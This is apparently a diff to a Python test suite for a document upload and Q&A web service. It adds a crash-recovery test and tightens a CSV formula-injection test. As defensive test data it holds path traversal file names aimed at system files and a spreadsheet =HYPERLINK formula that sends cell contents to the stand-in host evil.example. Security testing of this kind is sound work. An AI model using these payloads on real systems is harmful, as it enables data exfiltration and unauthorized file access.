@@ -204,6 +204,16 @@ def test_docx_bomb_upload_is_refused_quickly(client, tmp_path):
     assert not list((client.app.state.hoidap.settings.data_dir / "uploads").glob("bom*"))
 
 
+def test_a_crash_mid_upload_leaves_no_orphan_file(tmp_path):
+    client = make_client(tmp_path)
+    client.headers["Authorization"] = f"Bearer {TOKEN}"
+    assert upload(client, "giu-lai.txt", DOC.encode()).status_code == 200
+    uploads = tmp_path / "data" / "uploads"
+    (uploads / "do-dang.txt").write_bytes(DOC.encode())  # written, then the process was killed before ingest ended
+    make_client(tmp_path)  # the next start
+    assert sorted(p.name for p in uploads.iterdir()) == ["giu-lai.txt"]
+
+
 def test_upload_path_tricks_stay_inside_uploads(client):
     data_dir = client.app.state.hoidap.settings.data_dir
     for name in ["../../etc/passwd", "..\\..\\windows\\win.ini"]:
@@ -246,9 +256,10 @@ def test_statistics_page_and_csv_exports(client):
 
 def test_csv_cells_cannot_become_formulas(client):
     attack = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
-    answer = client.post("/api/ask", json={"question": attack}).json()
     for comment in ["+1 ý kiến", "-2+3", "@SUM(1+1)", "bình thường"]:
-        client.post("/api/feedback", json={"answer_id": answer["answer_id"], "rating": 1, "comment": comment})
+        answer = client.post("/api/ask", json={"question": attack}).json()
+        r = client.post("/api/feedback", json={"answer_id": answer["answer_id"], "rating": 1, "comment": comment})
+        assert r.status_code == 200
 
     def cells(kind):
         text = client.get(f"/admin/stats.csv?kind={kind}").text.lstrip("\ufeff")
